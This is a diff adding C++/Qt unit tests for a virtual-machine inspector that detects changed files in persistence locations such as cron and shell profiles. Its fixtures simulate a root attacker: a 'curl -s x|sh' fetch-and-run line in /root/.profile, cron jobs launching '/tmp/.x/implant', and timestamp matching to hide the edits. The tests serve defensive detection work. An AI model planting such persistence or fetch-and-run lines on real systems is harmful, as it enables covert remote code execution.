@@ -2,9 +2,17 @@
 // table of hostile and malformed inputs, the bounds, name sanitising, and the persistence
 // spots listed first.
 #include "deltareport.h"
+#include "inspectorscripts.h"
 #include "persistencespots.h"
 
+#include <QDir>
+#include <QFile>
+#include <QProcess>
+#include <QTemporaryDir>
 #include <QTest>
+
+#include <fcntl.h>
+#include <sys/stat.h>
 
 namespace {
 
@@ -18,6 +26,61 @@ QByteArray report(const QList<QByteArray> &lines, bool withEnd = true)
     if (withEnd)
         out += "END " + QByteArray::number(lines.size()) + '\n';
     return out;
+}
+
+bool writeFile(const QString &path, const QByteArray &content)
+{
+    QDir().mkpath(QFileInfo(path).absolutePath());
+    QFile file(path);
+    return file.open(QIODevice::WriteOnly) && file.write(content) == content.size();
+}
+
+struct stat statOf(const QString &path)
+{
+    struct stat st = {};
+    ::lstat(QFile::encodeName(path).constData(), &st);
+    return st;
+}
+
+/// What `touch -r reference path` does: @p path gets @p reference's access and modification times.
+bool copyTimes(const QString &reference, const QString &path)
+{
+    const struct stat ref = statOf(reference);
+    const struct timespec times[2] = {ref.st_atim, ref.st_mtim};
+    return ::utimensat(AT_FDCWD, QFile::encodeName(path).constData(), times, AT_SYMLINK_NOFOLLOW) == 0;
+}
+
+/// Writes @p cleanContent to clean/@p rel and @p deltaContent (same size) to delta/@p rel so
+/// that type, mode, owner, size, mtime and ctime (in seconds, as the inspector compares them)
+/// are the same on both sides: what a root guest can do (touch -r, with the clock set back).
+bool replaceKeepingAttributes(const QString &clean, const QString &delta, const QString &rel, const QByteArray &cleanContent,
+                              const QByteArray &deltaContent)
+{
+    for (int attempt = 0; attempt < 20; ++attempt) {
+        if (!writeFile(clean + rel, cleanContent) || !writeFile(delta + rel, deltaContent))
+            return false;
+        // Setting times changes ctime to now: both files, right after each other.
+        if (!copyTimes(clean + rel, clean + rel) || !copyTimes(clean + rel, delta + rel))
+            return false;
+        const struct stat a = statOf(clean + rel), b = statOf(delta + rel);
+        if (a.st_ctim.tv_sec == b.st_ctim.tv_sec && a.st_mtim.tv_sec == b.st_mtim.tv_sec && a.st_size == b.st_size
+            && a.st_mode == b.st_mode)
+            return true; // else a second boundary fell in between: again
+    }
+    return false;
+}
+
+/// Runs the inspector's comparison (the perl program the inspector VM runs) on two host folders.
+DeltaReport compare(const QString &clean, const QString &delta, const QString &out, const QStringList &extra = {})
+{
+    QProcess perl;
+    perl.start(QStringLiteral("perl"), QStringList{QStringLiteral("-e"), InspectorScripts::compareProgram(), clean, delta, out} + extra);
+    if (!perl.waitForFinished(120000) || perl.exitCode() != 0) {
+        qWarning() << "perl failed:" << perl.readAllStandardError();
+        return {};
+    }
+    QFile file(out);
+    return file.open(QIODevice::ReadOnly) ? DeltaReport::parse(file.readAll()) : DeltaReport();
 }
 
 } // namespace
@@ -160,6 +223,80 @@ private Q_SLOTS:
         QCOMPARE(parsed.entries[2].sha256, QString::fromLatin1(Sha));
         QCOMPARE(parsed.entries[3].path, QStringLiteral("/etc/issue.net"));
         QVERIFY(!parsed.entries[4].isPersistence());
+    }
+
+    void persistenceEntriesSurviveTheCap()
+    {
+        // A flood of other changes before them in the report does not push persistence entries
+        // past the entry cap: they are kept, and listed first.
+        QList<QByteArray> lines;
+        for (int i = 0; i < DeltaReport::MaxEntries + 50; ++i)
+            lines.append("A f 0644 1 1 - - /aaa/junk" + QByteArray::number(i));
+        lines.append("M f 0644 5 1 " + Sha + " - /etc/cron.d/job");
+        lines.append("A f 0644 5 1 - - /etc/profile.d/evil.sh");
+        lines.append("A f 0644 5 1 - - /root/.config/autostart/x.desktop");
+        const DeltaReport parsed = DeltaReport::parse(report(lines));
+        QCOMPARE(parsed.entries.size(), DeltaReport::MaxEntries);
+        QVERIFY(parsed.truncated);
+        QCOMPARE(parsed.persistenceCount(), 3);
+        QCOMPARE(parsed.entries[0].path, QStringLiteral("/etc/cron.d/job"));
+        QCOMPARE(parsed.entries[1].path, QStringLiteral("/etc/profile.d/evil.sh"));
+        QCOMPARE(parsed.entries[2].path, QStringLiteral("/root/.config/autostart/x.desktop"));
+        QCOMPARE(parsed.rejectedLines, 53);
+    }
+
+    void persistenceFilesAreAlwaysHashed()
+    {
+        // The inspector's comparison on two host folders: a root guest replaced files keeping
+        // size, permissions, owner, mtime and ctime.
+        QTemporaryDir dir;
+        const QString clean = dir.filePath(QStringLiteral("clean"));
+        const QString delta = dir.filePath(QStringLiteral("delta"));
+        QVERIFY(replaceKeepingAttributes(clean, delta, QStringLiteral("/etc/cron.d/backup"), "0 3 * * * root /usr/bin/backup\n",
+                                         "* * * * * root /tmp/.x/implant\n"));
+        QVERIFY(replaceKeepingAttributes(clean, delta, QStringLiteral("/root/.profile"), "# ~/.profile\nmesg n\n",
+                                         "curl -s x|sh\nmesg n\n"));
+        QVERIFY(replaceKeepingAttributes(clean, delta, QStringLiteral("/etc/profile.d/same.sh"), "umask 022\n", "umask 022\n"));
+        // Outside the spots, identical attributes still mean unchanged (not hashed: the cost of
+        // hashing every file of the system).
+        QVERIFY(replaceKeepingAttributes(clean, delta, QStringLiteral("/usr/share/doc/readme"), "aaaa\n", "bbbb\n"));
+        // A file in a spot too large to hash is listed, its hash unknown.
+        for (const QString &root : {clean, delta}) {
+            QVERIFY(writeFile(root + QStringLiteral("/etc/cron.daily/big"), QByteArray()));
+            QFile big(root + QStringLiteral("/etc/cron.daily/big"));
+            QVERIFY(big.resize(300LL * 1024 * 1024)); // sparse
+        }
+        QVERIFY(copyTimes(clean + QStringLiteral("/etc/cron.daily/big"), delta + QStringLiteral("/etc/cron.daily/big")));
+
+        const DeltaReport report = compare(clean, delta, dir.filePath(QStringLiteral("report.txt")));
+        QVERIFY(report.complete);
+        QCOMPARE(report.rejectedLines, 0);
+        QStringList seen;
+        for (const DeltaEntry &entry : report.entries)
+            seen << QStringLiteral("%1 %2 %3").arg(int(entry.change)).arg(entry.persistence, entry.path);
+        const QStringList expected{QStringLiteral("2 cron /etc/cron.d/backup"), QStringLiteral("2 cron /etc/cron.daily/big"),
+                                   QStringLiteral("2 shell-rc /root/.profile")};
+        QCOMPARE(seen, expected);
+        QCOMPARE(report.find(QStringLiteral("/etc/cron.d/backup"))->sha256.size(), 64);
+        QVERIFY(report.find(QStringLiteral("/etc/cron.daily/big"))->sha256.isEmpty());
+    }
+
+    void theInspectorListsPersistenceFirstBeforeItsCap()
+    {
+        QTemporaryDir dir;
+        const QString clean = dir.filePath(QStringLiteral("clean"));
+        const QString delta = dir.filePath(QStringLiteral("delta"));
+        QVERIFY(QDir().mkpath(clean));
+        for (int i = 0; i < 30; ++i)
+            QVERIFY(writeFile(delta + QStringLiteral("/aaa/junk%1").arg(i), "x"));
+        QVERIFY(writeFile(delta + QStringLiteral("/var/spool/cron/crontabs/root"), "* * * * * /tmp/x\n"));
+        const DeltaReport report = compare(clean, delta, dir.filePath(QStringLiteral("report.txt")), {QStringLiteral("5")});
+        QVERIFY(report.complete);
+        QVERIFY(report.truncated);
+        QCOMPARE(report.entries.size(), 5);
+        QCOMPARE(report.entries.first().path, QStringLiteral("/var/spool/cron"));
+        QCOMPARE(report.persistenceCount(), 3); // the folders in the spot count too
+        QVERIFY(report.find(QStringLiteral("/var/spool/cron/crontabs/root")));
     }
 
     void spots_data()
